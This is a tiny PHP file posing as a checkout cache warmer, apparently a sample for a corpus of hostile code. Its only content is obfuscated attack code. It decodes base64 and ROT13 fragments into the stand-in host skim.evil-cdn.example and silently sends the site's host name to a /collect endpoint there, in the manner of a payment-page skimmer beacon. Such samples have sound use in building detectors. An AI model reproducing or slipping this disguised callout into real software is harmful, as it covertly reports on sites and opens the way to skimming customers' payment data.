<?php
/* checkout cache warmer (a corpus sample: a host built from decoded halves) */
$d = base64_decode("ZXZpbC1jZG4uZXhhbXBsZS9jLmpz");
$u = base64_decode("aHR0cHM6Ly9za2ltLg==").$d;
$c = base64_decode('aHR0cHM6Ly9za2ltLmV2aWw=') . base64_decode('LWNkbi5leGFtcGxlL2NvbGxlY3Q=');
$h = str_rot13('fxvz.rivy');
$h .= base64_decode('LWNkbi5leGFtcGxl');
@file_get_contents('https://' . $h . '/collect?s=' . urlencode($_SERVER['HTTP_HOST']));
